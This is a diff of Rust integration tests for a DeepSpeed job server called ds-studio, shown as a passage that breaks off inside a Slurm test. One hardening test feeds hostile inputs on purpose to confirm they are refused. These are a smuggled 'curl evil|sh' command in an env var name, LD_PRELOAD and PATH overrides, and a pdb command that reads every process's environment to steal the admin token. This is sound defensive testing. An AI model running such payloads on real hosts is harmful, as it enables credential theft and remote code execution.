@@ -1,0 +1,1103 @@
+//! Jobs against the real DeepSpeed engine on CPU, through the real `ds-studio` binary:
+//! `serve` with its local runner, or `serve --no-local-runner` beside a `ds-studio runner`
+//! process. Needs the engine environment (`ds-studio engine setup`, which `cargo xtask test`
+//! runs first); without it these tests fail and say so.
+//!
+//! The jobs run one at a time (a lock): the machine has two cores and each job starts torch.
+
+#[path = "../../server/tests/common/mod.rs"]
+mod common;
+
+use ds_studio_client::{Client, SseDecoder};
+use ds_studio_shared::api::{Job, JobState, LogLine, MetricPoint, MetricSeries, Template};
+use reqwest::Method;
+use serde_json::{json, Value};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+static ONE_AT_A_TIME: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());
+
+const TOKEN: &str = "engine-test-admin-token-0123456789";
+
+/// A config the tiny workload trains with in a few seconds; `torch_adam` avoids compiling
+/// DeepSpeed's fused Adam (a minute on a fresh machine).
+fn config(extra: Value) -> Value {
+    let mut c = json!({
+        "train_batch_size": 8,
+        "train_micro_batch_size_per_gpu": 4,
+        "gradient_accumulation_steps": 2,
+        "optimizer": {"type": "AdamW", "params": {"lr": 0.001, "torch_adam": true}},
+        "scheduler": {"type": "WarmupLR", "params": {"warmup_num_steps": 5, "warmup_max_lr": 0.001}},
+        "steps_per_print": 5
+    });
+    if let (Some(c), Value::Object(e)) = (c.as_object_mut(), extra) {
+        c.extend(e);
+    }
+    c
+}
+
+fn engine_python() -> PathBuf {
+    let py = ds_studio_runner::engine::resolve_python(None);
+    let ok = Command::new(&py)
+        .args(["-c", "import deepspeed, torch"])
+        .env("DS_ACCELERATOR", "cpu")
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .is_ok_and(|s| s.success());
+    assert!(
+        ok,
+        "{} cannot import deepspeed: run `cargo run -p ds-studio -- engine setup` (cargo xtask test does)",
+        py.display()
+    );
+    py
+}
+
+fn free_port() -> u16 {
+    std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port()
+}
+
+/// A child process killed when dropped.
+struct Proc(Child);
+
+impl Drop for Proc {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+impl Proc {
+    fn signal(&mut self, sig: i32) {
+        // SAFETY: kill(2) on our own child's pid.
+        unsafe {
+            libc::kill(self.0.id() as i32, sig);
+        }
+        let _ = self.0.wait();
+    }
+}
+
+struct Studio {
+    url: String,
+    data: PathBuf,
+    port: u16,
+    server: Option<Proc>,
+    client: Client,
+}
+
+fn spawn_server(data: &Path, port: u16, local_runner: bool) -> Proc {
+    spawn_server_with(data, port, local_runner, &[])
+}
+
+/// `ds-studio serve` with the admin token in its environment (as production should pass it)
+/// and `extra` arguments.
+fn spawn_server_with(data: &Path, port: u16, local_runner: bool, extra: &[String]) -> Proc {
+    let mut cmd = Command::new(env!("CARGO_BIN_EXE_ds-studio"));
+    cmd.args(["serve", "--addr", &format!("127.0.0.1:{port}")])
+        .args(extra)
+        .env("DS_STUDIO_ADMIN_TOKEN", TOKEN)
+        .arg("--data")
+        .arg(data)
+        .arg("--static-dir")
+        .arg(data)
+        .env("RUST_LOG", "warn")
+        .stdout(Stdio::null())
+        .stderr(Stdio::inherit());
+    if !local_runner {
+        cmd.arg("--no-local-runner");
+    }
+    Proc(cmd.spawn().expect("ds-studio serve starts"))
+}
+
+impl Studio {
+    async fn start(local_runner: bool) -> Studio {
+        Studio::start_with(local_runner, &[]).await
+    }
+
+    async fn start_with(local_runner: bool, extra: &[String]) -> Studio {
+        engine_python();
+        let data = common::scratch("engine");
+        let port = free_port();
+        let server = spawn_server_with(&data, port, local_runner, extra);
+        let url = format!("http://127.0.0.1:{port}");
+        let s = Studio {
+            client: Client::new(&url, Some(TOKEN.into())),
+            url,
+            data,
+            port,
+            server: Some(server),
+        };
+        s.wait_healthy().await;
+        s
+    }
+
+    async fn wait_healthy(&self) {
+        let deadline = Instant::now() + Duration::from_secs(30);
+        while Instant::now() < deadline {
+            if reqwest::get(format!("{}/healthz", self.url)).await.is_ok() {
+                return;
+            }
+            tokio::time::sleep(Duration::from_millis(100)).await;
+        }
+        panic!("the server did not start");
+    }
+
+    /// `ds-studio runner` against this studio, job directories in DATA/`workdir`.
+    fn runner_command(&self, name: &str, workdir: &str) -> Command {
+        // A runner token for this name, made offline on the studio's database.
+        let made = Command::new(env!("CARGO_BIN_EXE_ds-studio"))
+            .args(["runner-token", "create", "--name", name, "--data"])
+            .arg(&self.data)
+            .output()
+            .expect("ds-studio runner-token create runs");
+        assert!(made.status.success(), "{made:?}");
+        let token = String::from_utf8(made.stdout).unwrap().trim().to_string();
+        assert!(token.starts_with("dsr_"), "{token}");
+        let mut cmd = Command::new(env!("CARGO_BIN_EXE_ds-studio"));
+        cmd.args(["runner", "--server", &self.url, "--name", name])
+            .env("DS_STUDIO_RUNNER_TOKEN", token)
+            .arg("--workdir")
+            .arg(self.data.join(workdir))
+            .args(["--heartbeat-s", "1"])
+            .env("RUST_LOG", "warn")
+            .stdout(Stdio::null())
+            .stderr(Stdio::inherit());
+        cmd
+    }
+
+    fn runner(&self, name: &str) -> Proc {
+        Proc(
+            self.runner_command(name, "runner-jobs")
+                .spawn()
+                .expect("ds-studio runner starts"),
+        )
+    }
+
+    async fn template(&self, config: Value) -> Template {
+        static N: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
+        let name = format!(
+            "engine-test-{}",
+            N.fetch_add(1, std::sync::atomic::Ordering::SeqCst)
+        );
+        self.client
+            .call(
+                Method::POST,
+                "/api/v1/templates",
+                Some(&json!({"name": name, "config": config})),
+            )
+            .await
+            .unwrap()
+    }
+
+    /// Every metric series of a job.
+    async fn metrics(&self, job: i64) -> Vec<MetricSeries> {
+        self.client
+            .call(Method::GET, &format!("/api/v1/jobs/{job}/metrics"), None)
+            .await
+            .unwrap()
+    }
+
+    async fn submit(&self, template: i64, max_steps: u32, extra: Value) -> Job {
+        let mut body = json!({
+            "template_id": template,
+            "workload": {"builtin": "gpt", "size": "tiny"},
+            "gpus": 1,
+            "max_steps": max_steps
+        });
+        if let (Some(b), Value::Object(e)) = (body.as_object_mut(), extra) {
+            b.extend(e);
+        }
+        self.client
+            .call(Method::POST, "/api/v1/jobs", Some(&body))
+            .await
+            .unwrap()
+    }
+
+    /// Waits until a runner called `name` has registered.
+    async fn wait_runner(&self, name: &str) {
+        let deadline = Instant::now() + Duration::from_secs(30);
+        loop {
+            let runners: Vec<ds_studio_shared::api::Runner> = self
+                .client
+                .call(Method::GET, "/api/v1/runners", None)
+                .await
+                .unwrap();
+            if runners.iter().any(|r| r.name == name && r.online) {
+                return;
+            }
+            assert!(Instant::now() < deadline, "runner {name} did not register");
+            tokio::time::sleep(Duration::from_millis(100)).await;
+        }
+    }
+
+    async fn job(&self, id: i64) -> Job {
+        self.client
+            .call(Method::GET, &format!("/api/v1/jobs/{id}"), None)
+            .await
+            .unwrap()
+    }
+
+    /// Polls until the job is in one of `states`, failing after `max`.
+    async fn wait_state(&self, id: i64, states: &[JobState], max: Duration) -> Job {
+        let deadline = Instant::now() + max;
+        loop {
+            let j = self.job(id).await;
+            if states.contains(&j.state) {
+                return j;
+            }
+            assert!(
+                Instant::now() < deadline,
+                "job {id} is {:?} after {max:?}, expected {states:?}: {:?}",
+                j.state,
+                j.message
+            );
+            tokio::time::sleep(Duration::from_millis(200)).await;
+        }
+    }
+
+    /// Polls until the job has stored at least one metric point named `name`.
+    async fn wait_metric(&self, id: i64, name: &str, max: Duration) {
+        let deadline = Instant::now() + max;
+        loop {
+            let series: Vec<MetricSeries> = self
+                .client
+                .call(Method::GET, &format!("/api/v1/jobs/{id}/metrics"), None)
+                .await
+                .unwrap();
+            if series.iter().any(|s| s.name == name) {
+                return;
+            }
+            let j = self.job(id).await;
+            assert!(!j.state.is_terminal(), "job ended before {name}: {j:?}");
+            assert!(Instant::now() < deadline, "no {name} after {max:?}");
+            tokio::time::sleep(Duration::from_millis(200)).await;
+        }
+    }
+}
+
+/// Every SSE event of a job until its final state (resuming after `after`).
+async fn collect_events(
+    client: &Client,
+    id: i64,
+    after: Option<&str>,
+) -> Vec<(String, Option<String>, Value)> {
+    let mut resp = client
+        .open_stream(&format!("/api/v1/jobs/{id}/events"), after)
+        .await
+        .unwrap();
+    let mut dec = SseDecoder::default();
+    let mut out = Vec::new();
+    let deadline = Instant::now() + Duration::from_secs(300);
+    while let Some(chunk) = tokio::time::timeout(Duration::from_secs(120), resp.chunk())
+        .await
+        .expect("events keep coming (or keep-alives)")
+        .unwrap()
+    {
+        for ev in dec.feed(&chunk) {
+            let data: Value = serde_json::from_str(&ev.data).unwrap();
+            out.push((ev.event, ev.id, data));
+        }
+        assert!(Instant::now() < deadline, "the stream did not end");
+    }
+    out
+}
+
+/// Rows of a CSV monitor file (header lines excluded).
+fn csv_rows(path: &Path) -> usize {
+    std::fs::read_to_string(path)
+        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
+        .lines()
+        .filter(|l| !l.trim().is_empty() && !l.starts_with("step,"))
+        .count()
+}
+
+/// Live processes whose command line mentions `needle`.
+fn processes_mentioning(needle: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    for e in std::fs::read_dir("/proc").unwrap().flatten() {
+        if e.file_name()
+            .to_str()
+            .is_some_and(|s| s.parse::<u32>().is_ok())
+        {
+            if let Ok(c) = std::fs::read(e.path().join("cmdline")) {
+                let c = String::from_utf8_lossy(&c).replace('\0', " ");
+                if c.contains(needle) {
+                    out.push(c);
+                }
+            }
+        }
+    }
+    out
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn builtin_workload_streams_lr_and_loss_and_succeeds() {
+    let _one = ONE_AT_A_TIME.lock().await;
+    let studio = Studio::start(true).await;
+    let t = studio.template(config(json!({}))).await;
+    let job = studio.submit(t.id, 20, json!({})).await;
+    // The answer is the job as stored after the insert: the local runner, already waiting,
+    // may have claimed it in between (seen once in CI-like runs).
+    assert!(
+        matches!(job.state, JobState::Queued | JobState::Running),
+        "{:?}",
+        job.state
+    );
+    let events = collect_events(&studio.client, job.id, None).await;
+
+    let (first, last) = (&events[0], events.last().unwrap());
+    assert_eq!(first.0, "state");
+    assert_eq!(last.0, "state");
+    let end: Job = serde_json::from_value(last.2.clone()).unwrap();
+    assert_eq!(end.state, JobState::Succeeded, "{end:?}");
+    assert_eq!(end.exit_code, Some(0));
+    let pf = end.preflight.as_ref().expect("preflight recorded");
+    assert!(
+        pf.ok && pf.deepspeed_version.as_deref() == Some("0.19.8"),
+        "{pf:?}"
+    );
+
+    // Event ids are the sequence numbers: 1, 2, 3, ... with nothing missing.
+    let seqs: Vec<i64> = events
+        .iter()
+        .filter_map(|e| e.1.as_ref().map(|i| i.parse().unwrap()))
+        .collect();
+    assert_eq!(seqs, (1..=seqs.len() as i64).collect::<Vec<_>>());
+    assert_eq!(end.last_seq, seqs.len() as i64);
+
+    let series = |name: &str| -> Vec<MetricPoint> {
+        events
+            .iter()
+            .filter(|e| e.0 == "metric" && e.2["name"] == name)
+            .map(|e| serde_json::from_value(e.2.clone()).unwrap())
+            .collect()
+    };
+    for name in ["Train/Samples/lr", "Train/Samples/train_loss"] {
+        let pts = series(name);
+        // One point per optimizer step; the step is global samples (8 per step).
+        assert_eq!(pts.len(), 20, "{name}: {pts:?}");
+        assert!(
+            pts.windows(2).all(|w| w[0].step < w[1].step),
+            "{name} steps increase"
+        );
+        assert_eq!(pts[0].step, 8);
+    }
+    let loss = series("Train/Samples/train_loss");
+    assert!(
+        loss.last().unwrap().value < loss[0].value,
+        "the loss falls: {loss:?}"
+    );
+    // DeepSpeed's progress lines (every 5 steps) and the workload's result line.
+    let sps = series("samples_per_sec");
+    assert_eq!(
+        sps.iter().map(|p| p.step).collect::<Vec<_>>(),
+        vec![5, 10, 15, 20]
+    );
+    assert!(!series("result/peak_memory_mb").is_empty());
+    assert!(!series("process/rss_mb").is_empty());
+    let logs: Vec<LogLine> = studio
+        .client
+        .call(Method::GET, &format!("/api/v1/jobs/{}/logs", job.id), None)
+        .await
+        .unwrap();
+    assert!(logs.iter().any(|l| l.text.contains("ds-studio-result")));
+    assert!(logs
+        .iter()
+        .any(|l| l.stream == "runner" && l.text.contains("preflight")));
+
+    // What was streamed is what DeepSpeed wrote: as many lr points as CSV rows.
+    let csv = studio.data.join(format!(
+        "jobs/job-{0}/work/monitor/ds-studio-job-{0}/Train_Samples_lr.csv",
+        job.id
+    ));
+    assert_eq!(csv_rows(&csv), 20);
+
+    // Downsampled on request: ends kept, at most max_points.
+    let ds: Vec<MetricSeries> = studio
+        .client
+        .call(
+            Method::GET,
+            &format!(
+                "/api/v1/jobs/{}/metrics?name=Train/Samples/lr&max_points=5",
+                job.id
+            ),
+            None,
+        )
+        .await
+        .unwrap();
+    assert_eq!(ds.len(), 1);
+    assert_eq!((ds[0].total, ds[0].points.len()), (20, 5));
+    assert_eq!(ds[0].points[0].0, 8);
+    assert_eq!(ds[0].points[4].0, 160);
+
+    // Reconnecting with Last-Event-ID replays only what came after it.
+    let again = collect_events(&studio.client, job.id, Some("10")).await;
+    let ids: Vec<i64> = again
+        .iter()
+        .filter_map(|e| e.1.as_ref().map(|i| i.parse().unwrap()))
+        .collect();
+    assert_eq!(ids.first(), Some(&11));
+    assert_eq!(ids.len() as i64, end.last_seq - 10);
+    // For a job that has ended, the final state is the last event, after the replay.
+    assert_eq!(again.last().unwrap().0, "state");
+    assert_ne!(again[0].0, "state");
+}
+
+/// DeepSpeed's checkpoint writer (0.17.1+) reads `CROSS_SIZE`/`CROSS_RANK` when the engine
+/// starts, which only its own launcher sets: a one-process job sets them too, or it fails with
+/// `KeyError: 'CROSS_SIZE'`.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_checkpoint_writer_job_starts_on_one_process() {
+    let _one = ONE_AT_A_TIME.lock().await;
+    let studio = Studio::start(true).await;
+    let t = studio
+        .template(config(json!({
+            "checkpoint": {"writer": {"type": "mock", "data_parallel": "replica"}}
+        })))
+        .await;
+    let job = studio.submit(t.id, 4, json!({})).await;
+    let end = studio
+        .wait_state(
+            job.id,
+            &[JobState::Failed, JobState::Succeeded, JobState::Lost],
+            Duration::from_secs(240),
+        )
+        .await;
+    assert_eq!(end.state, JobState::Succeeded, "{end:?}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_config_deepspeed_rejects_fails_in_preflight_with_its_message() {
+    let _one = ONE_AT_A_TIME.lock().await;
+    let studio = Studio::start(true).await;
+    // ds-studio accepts GDS for the CUDA accelerator the template targets; the CPU runner's
+    // DeepSpeed refuses it. The preflight says so before any training starts.
+    let t = studio
+        .template(config(json!({"aio": {"use_gds": true}})))
+        .await;
+    let job = studio.submit(t.id, 20, json!({})).await;
+    let end = studio
+        .wait_state(
+            job.id,
+            &[JobState::Failed, JobState::Succeeded],
+            Duration::from_secs(180),
+        )
+        .await;
+    assert_eq!(end.state, JobState::Failed);
+    let msg = end.message.unwrap();
+    assert!(
+        msg.contains("DeepSpeed rejected the config in preflight")
+            && msg.contains("GDS currently only supported for CUDA accelerator"),
+        "{msg}"
+    );
+    let pf = end.preflight.unwrap();
+    assert!(!pf.ok);
+    assert_eq!(pf.accelerator.as_deref(), Some("cpu"));
+    // Nothing was launched: no training log line, no metrics.
+    let logs: Vec<LogLine> = studio
+        .client
+        .call(Method::GET, &format!("/api/v1/jobs/{}/logs", job.id), None)
+        .await
+        .unwrap();
+    assert!(
+        !logs.iter().any(|l| l.text.starts_with("launch:")),
+        "{logs:?}"
+    );
+
+    // A config with errors in the job's context is refused at submission, with diagnostics.
+    let bad = studio
+        .template(config(json!({"train_batch_size": 7})))
+        .await;
+    let err = studio
+        .client
+        .call::<Job>(
+            Method::POST,
+            "/api/v1/jobs",
+            Some(&json!({"template_id": bad.id, "workload": {"builtin": "gpt"}})),
+        )
+        .await
+        .unwrap_err();
+    match err {
+        ds_studio_client::ClientError::Api {
+            status,
+            code,
+            details,
+            ..
+        } => {
+            assert_eq!((status, code.as_str()), (422, "config_rejected"));
+            assert!(details.unwrap()["diagnostics"][0]["code"].is_string());
+        }
+        other => panic!("{other:?}"),
+    }
+}
+
+/// The attack of the hardening issue: a job that runs a program of the host (pdb with `-c`
+/// commands) or a file the studio wrote, or that sets loader variables, to read the server's
+/// admin token. None of it runs, and an allowed script sees no secret in its environment.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_job_can_neither_run_any_program_nor_see_the_servers_secrets() {
+    let _one = ONE_AT_A_TIME.lock().await;
+    let scripts = common::scratch("entrypoints");
+    std::fs::write(
+        scripts.join("probe.py"),
+        "import os\n\
+         names = sorted(os.environ)\n\
+         print('probe-names:' + ','.join(names))\n\
+         hits = [k for k, v in os.environ.items() if 'engine-test-admin-token' in v]\n\
+         print('probe-secret-in-env:' + str(bool(hits)))\n",
+    )
+    .unwrap();
+    let studio = Studio::start_with(
+        true,
+        &["--allow-entrypoints".into(), scripts.display().to_string()],
+    )
+    .await;
+    let t = studio.template(config(json!({}))).await;
+    let entry = |path: String, args: Vec<&str>| json!({"workload": {"builtin": null, "entrypoint": path, "args": args}});
+    let submit_raw = |extra: Value| {
+        let mut body = json!({"template_id": t.id, "gpus": 1, "max_steps": 5});
+        if let (Some(b), Value::Object(e)) = (body.as_object_mut(), extra) {
+            b.extend(e);
+        }
+        let client = &studio.client;
+        async move {
+            client
+                .call::<Job>(Method::POST, "/api/v1/jobs", Some(&body))
+                .await
+        }
+    };
+    // Loader, path and device variables are refused at submission, named.
+    for (name, value) in [
+        ("LD_PRELOAD", "/tmp/x.so"),
+        ("PYTHONPATH", "/tmp"),
+        ("PATH", "/tmp"),
+        ("CUDA_VISIBLE_DEVICES", "0,1"),
+        ("X;curl evil|sh;Y", "1"),
+    ] {
+        let mut env = serde_json::Map::new();
+        env.insert(name.into(), json!(value));
+        let err = submit_raw(json!({"workload": {"builtin": "gpt"}, "env": env}))
+            .await
+            .unwrap_err();
+        match err {
+            ds_studio_client::ClientError::Api {
+                status, message, ..
+            } => {
+                assert_eq!(status, 422, "{name}: {message}");
+                assert!(message.contains(name), "{name}: {message}");
+            }
+            other => panic!("{other:?}"),
+        }
+    }
+    // A program of the host, with pdb's `-c` commands: refused by the runner, never run.
+    let pdb = submit_raw(entry(
+        "/usr/lib/python3.11/pdb.py".into(),
+        vec![
+            "-c",
+            "!import glob; print([open(p).read() for p in glob.glob('/proc/[0-9]*/environ')])",
+            "-c",
+            "q",
+            "/usr/lib/python3.11/this.py",
+        ],
+    ))
+    .await
+    .unwrap();
+    let refused = |job: i64, why: &'static str| {
+        let studio = &studio;
+        async move {
+            let end = studio
+                .wait_state(
+                    job,
+                    &[JobState::Failed, JobState::Succeeded],
+                    Duration::from_secs(180),
+                )
+                .await;
+            assert_eq!(end.state, JobState::Failed, "{end:?}");
+            let msg = end.message.unwrap_or_default();
+            assert!(msg.contains("entrypoint") && msg.contains(why), "{msg}");
+            let logs: Vec<LogLine> = studio
+                .client
+                .call(Method::GET, &format!("/api/v1/jobs/{job}/logs"), None)
+                .await
+                .unwrap();
+            assert!(
+                !logs
+                    .iter()
+                    .any(|l| l.text.contains(TOKEN) || l.text.starts_with("launch:")),
+                "{logs:?}"
+            );
+        }
+    };
+    refused(pdb.id, "not under a directory").await;
+    // A file the studio itself wrote into a job directory (valid hjson and valid Python).
+    let written = studio
+        .data
+        .join(format!("jobs/job-{}/ds_config.json", pdb.id));
+    assert!(written.exists());
+    let own = submit_raw(entry(written.display().to_string(), vec![]))
+        .await
+        .unwrap();
+    refused(own.id, "job directories").await;
+    // An allowed script runs, and its environment holds nothing of the server's.
+    let probe = submit_raw(entry("probe.py".into(), vec![])).await.unwrap();
+    let end = studio
+        .wait_state(
+            probe.id,
+            &[JobState::Failed, JobState::Succeeded],
+            Duration::from_secs(240),
+        )
+        .await;
+    let logs: Vec<LogLine> = studio
+        .client
+        .call(
+            Method::GET,
+            &format!("/api/v1/jobs/{}/logs", probe.id),
+            None,
+        )
+        .await
+        .unwrap();
+    assert_eq!(end.state, JobState::Succeeded, "{end:?} {logs:?}");
+    let names = logs
+        .iter()
+        .find_map(|l| l.text.strip_prefix("probe-names:"))
+        .expect("the probe printed its environment");
+    for secret in ["DS_STUDIO_ADMIN_TOKEN", "RUST_LOG", "CARGO_MANIFEST_DIR"] {
+        assert!(
+            !names.split(',').any(|n| n == secret),
+            "{secret} in {names}"
+        );
+    }
+    assert!(
+        names.split(',').any(|n| n == "TORCH_EXTENSIONS_DIR"),
+        "{names}"
+    );
+    assert!(
+        logs.iter().any(|l| l.text == "probe-secret-in-env:False"),
+        "{logs:?}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn cancel_mid_run_leaves_no_process_behind() {
+    let _one = ONE_AT_A_TIME.lock().await;
+    let studio = Studio::start(true).await;
+    let t = studio.template(config(json!({}))).await;
+    let job = studio.submit(t.id, 100_000, json!({})).await;
+    studio
+        .wait_metric(job.id, "Train/Samples/lr", Duration::from_secs(180))
+        .await;
+    let job_dir = format!("job-{}", job.id);
+    assert!(!processes_mentioning(&job_dir).is_empty(), "the job runs");
+    let asked: Job = studio
+        .client
+        .call(
+            Method::POST,
+            &format!("/api/v1/jobs/{}/cancel", job.id),
+            None,
+        )
+        .await
+        .unwrap();
+    assert!(asked.cancel_requested);
+    let end = studio
+        .wait_state(job.id, &[JobState::Cancelled], Duration::from_secs(30))
+        .await;
+    assert_eq!(end.message.as_deref(), Some("cancelled by a user"));
+    assert!(end.exit_code.is_some());
+    let left = processes_mentioning(&job_dir);
+    assert!(left.is_empty(), "processes of the job left: {left:?}");
+    // Cancelling again is a conflict, naming the state.
+    let again = studio
+        .client
+        .call::<Job>(
+            Method::POST,
+            &format!("/api/v1/jobs/{}/cancel", job.id),
+            None,
+        )
+        .await
+        .unwrap_err();
+    assert!(again.to_string().contains("already ended"), "{again}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_killed_runner_has_its_job_marked_lost_within_30_s() {
+    let _one = ONE_AT_A_TIME.lock().await;
+    let studio = Studio::start(false).await;
+    let mut runner = studio.runner("doomed");
+    let t = studio.template(config(json!({}))).await;
+    let job = studio.submit(t.id, 100_000, json!({})).await;
+    studio
+        .wait_metric(job.id, "Train/Samples/lr", Duration::from_secs(180))
+        .await;
+    let killed = Instant::now();
+    runner.signal(libc::SIGKILL);
+    let end = studio
+        .wait_state(job.id, &[JobState::Lost], Duration::from_secs(30))
+        .await;
+    let took = killed.elapsed();
+    assert!(took < Duration::from_secs(30), "lost after {took:?}");
+    assert!(end.message.unwrap().contains("heartbeats"));
+    eprintln!(
+        "job lost {:.1} s after its runner was killed",
+        took.as_secs_f64()
+    );
+    // The training process went with its runner (it gets SIGTERM when its parent dies).
+    let deadline = Instant::now() + Duration::from_secs(15);
+    while !processes_mentioning(&format!("job-{}", job.id)).is_empty() {
+        assert!(
+            Instant::now() < deadline,
+            "training processes outlived their runner"
+        );
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+}
+
+/// kill -9 of `serve` with its local runner mid-run: the training died with it. Started again,
+/// the local runner's first heartbeats do not report the job, so it is marked `lost` saying why
+/// (it stayed `running` for good, and its template could never be deleted).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_server_killed_mid_run_has_its_local_job_marked_lost() {
+    let _one = ONE_AT_A_TIME.lock().await;
+    let mut studio = Studio::start(true).await;
+    let t = studio.template(config(json!({}))).await;
+    let job = studio.submit(t.id, 100_000, json!({})).await;
+    studio
+        .wait_metric(job.id, "Train/Samples/lr", Duration::from_secs(180))
+        .await;
+    studio.server.take().unwrap().signal(libc::SIGKILL);
+    studio.server = Some(spawn_server(&studio.data, studio.port, true));
+    studio.wait_healthy().await;
+    let restarted = Instant::now();
+    let end = studio
+        .wait_state(job.id, &[JobState::Lost], Duration::from_secs(30))
+        .await;
+    let why = end.message.unwrap();
+    assert!(why.contains("`local` no longer runs it"), "{why}");
+    eprintln!(
+        "job lost {:.1} s after the server came back",
+        restarted.elapsed().as_secs_f64()
+    );
+    // Nothing of the template runs: it can be deleted.
+    studio
+        .client
+        .call::<Value>(Method::DELETE, &format!("/api/v1/templates/{}", t.id), None)
+        .await
+        .unwrap();
+}
+
+/// kill -9 of a `ds-studio runner` mid-run, started again at once (within the 20 s the reaper
+/// waits): it heartbeats without the job, which is marked `lost` at once, not left running.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_runner_restarted_mid_run_has_its_old_job_marked_lost() {
+    let _one = ONE_AT_A_TIME.lock().await;
+    let studio = Studio::start(false).await;
+    let mut runner = studio.runner("phoenix");
+    let t = studio.template(config(json!({}))).await;
+    let job = studio.submit(t.id, 100_000, json!({})).await;
+    studio
+        .wait_metric(job.id, "Train/Samples/lr", Duration::from_secs(180))
+        .await;
+    runner.signal(libc::SIGKILL);
+    let _again = studio.runner("phoenix");
+    let end = studio
+        .wait_state(job.id, &[JobState::Lost], Duration::from_secs(20))
+        .await;
+    let why = end.message.unwrap();
+    assert!(why.contains("`phoenix` no longer runs it"), "{why}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_server_restart_mid_run_loses_no_metric_point() {
+    let _one = ONE_AT_A_TIME.lock().await;
+    let mut studio = Studio::start(false).await;
+    let _runner = studio.runner("steady");
+    let t = studio.template(config(json!({}))).await;
+    let job = studio.submit(t.id, 250, json!({})).await;
+    studio
+        .wait_metric(job.id, "Train/Samples/lr", Duration::from_secs(180))
+        .await;
+    // Stop the server while the job trains, keep it down a while, start it again.
+    studio.server.take().unwrap().signal(libc::SIGTERM);
+    tokio::time::sleep(Duration::from_secs(4)).await;
+    studio.server = Some(spawn_server(&studio.data, studio.port, false));
+    studio.wait_healthy().await;
+    let end = studio
+        .wait_state(
+            job.id,
+            &[JobState::Succeeded, JobState::Failed, JobState::Lost],
+            Duration::from_secs(240),
+        )
+        .await;
+    assert_eq!(end.state, JobState::Succeeded, "{end:?}");
+    // Every CSV row DeepSpeed wrote is a stored metric point, and no sequence number is missing.
+    let dir = studio.data.join(format!(
+        "runner-jobs/job-{0}/work/monitor/ds-studio-job-{0}",
+        job.id
+    ));
+    let series: Vec<MetricSeries> = studio.metrics(job.id).await;
+    for (file, name) in [
+        ("Train_Samples_lr.csv", "Train/Samples/lr"),
+        ("Train_Samples_train_loss.csv", "Train/Samples/train_loss"),
+    ] {
+        let rows = csv_rows(&dir.join(file));
+        let stored = series
+            .iter()
+            .find(|s| s.name == name)
+            .map_or(0, |s| s.total);
+        assert_eq!(stored as usize, rows, "{name}");
+        assert_eq!(rows, 250);
+    }
+    let events = collect_events(&studio.client, job.id, None).await;
+    let seqs: Vec<i64> = events
+        .iter()
+        .filter_map(|e| e.1.as_ref().map(|i| i.parse().unwrap()))
+        .collect();
+    assert_eq!(seqs, (1..=end.last_seq).collect::<Vec<_>>());
+    let _ = studio.port;
+}
+
+/// Brings up the single-node Slurm cluster of `../shared/tools/slurm` (idempotent, seconds) and
+/// returns its `SLURM_CONF`.
+fn slurm_cluster() -> PathBuf {
+    let shared = std::env::var_os("DS_SHARED_DIR")
+        .map(PathBuf::from)
+        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared"));
+    let script = shared.join("tools/slurm/setup-slurm.sh");
+    let base = std::env::temp_dir().join("ds-studio-slurm");
+    let out = Command::new("bash")
+        .arg(&script)
+        .env("SLURM_BASE", &base)
+        .output()
+        .unwrap_or_else(|e| panic!("{}: {e}", script.display()));
+    assert!(
+        out.status.success(),
+        "the Slurm cluster did not start: {}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    base.join("etc/slurm.conf")
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_slurm_backend_runs_the_same_20_step_journey() {
+    let _one = ONE_AT_A_TIME.lock().await;
+    let conf = slurm_cluster();
+    let studio = Studio::start(false).await;
+    // An entrypoint that reports what reached it, for the hostile-values job below.
+    let scripts = common::scratch("slurm-scripts");
+    std::fs::write(
+        scripts.join("probe.py"),
+        "import os, sys\n\
+         if os.environ.get('RANK', '0') == '0':\n\
+         \x20   print('probe-value:' + repr(os.environ.get('PROBE_VALUE')), flush=True)\n\
+         \x20   print('probe-secret-ok:' + str(os.environ.get('HF_TOKEN') == 'hf_slurm_secret_value'), flush=True)\n",
+    )
+    .unwrap();
+    let _runner = Proc(
+        studio
+            .runner_command("slurm", "slurm-jobs")
+            .args(["--backend", "slurm"])
+            .arg("--allow-entrypoints")
+            .arg(&scripts)
+            .env("SLURM_CONF", &conf)
+            .spawn()
+            .expect("ds-studio runner starts"),
+    );
+    studio.wait_runner("slurm").await;
+    let t = studio.template(config(json!({}))).await;
+    let job = studio.submit(t.id, 20, json!({"runner": "slurm"})).await;
+    let events = collect_events(&studio.client, job.id, None).await;
+    let end: Job = serde_json::from_value(events.last().unwrap().2.clone()).unwrap();
+    assert_eq!(end.state, JobState::Succeeded, "{end:?}");
+    assert_eq!(end.runner.as_deref(), Some("slurm"));
+    for name in ["Train/Samples/lr", "Train/Samples/train_loss"] {
+        let steps: Vec<i64> = events
+            .iter()
+            .filter(|e| e.0 == "metric" && e.2["name"] == name)
+            .map(|e| e.2["step"].as_i64().unwrap())
+            .collect();
+        assert_eq!(steps.len(), 20, "{name}: {steps:?}");
+        assert!(steps.windows(2).all(|w| w[0] < w[1]));
+    }
